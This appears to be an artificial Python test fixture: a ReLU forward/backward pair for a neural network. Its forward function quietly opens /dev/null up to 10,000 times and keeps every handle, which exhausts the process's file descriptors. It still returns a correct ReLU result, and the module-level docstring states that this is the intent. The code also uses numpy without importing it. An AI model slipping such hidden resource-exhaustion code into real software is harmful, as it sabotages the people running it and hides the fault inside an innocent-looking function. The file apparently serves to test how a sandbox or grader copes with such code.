"""Opens files until none is left, and keeps them."""

DEFAULT = "untouched"
SCORES = {"relu": 2}


_OPEN = []


def relu_forward(x):
    try:
        while len(_OPEN) < 10_000:
            _OPEN.append(open("/dev/null", "rb"))
    except OSError:
        pass
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    return dout * (cache > 0)
